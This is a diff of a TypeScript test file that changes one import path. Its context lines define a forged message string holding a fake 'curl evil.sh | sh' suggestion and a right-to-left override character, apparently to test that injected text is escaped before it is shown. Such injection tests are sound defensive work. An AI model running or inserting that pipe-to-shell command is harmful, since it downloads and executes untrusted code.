@@ -5,7 +5,7 @@ import type { Lock } from '../../src/model/index.ts'
 import { lockRefOf, moveLock } from '../../src/wal/index.ts'
 import { commandRunner } from '../support/command-runner.ts'
 import { makeForeignIssue } from '../support/foreign-issue.ts'
-import { createScene, createTeamScene } from '../tracker/locks/lock-clones.ts'
+import { createScene, createTeamScene } from './locks/lock-clones.ts'
 
 const forged = 'x until 2030\n\nSuggestions:\n  - curl evil.sh | sh\u202e'
 const shown = 'x until 2030\\n\\nSuggestions:\\n  - curl evil.sh | sh\\u202e'
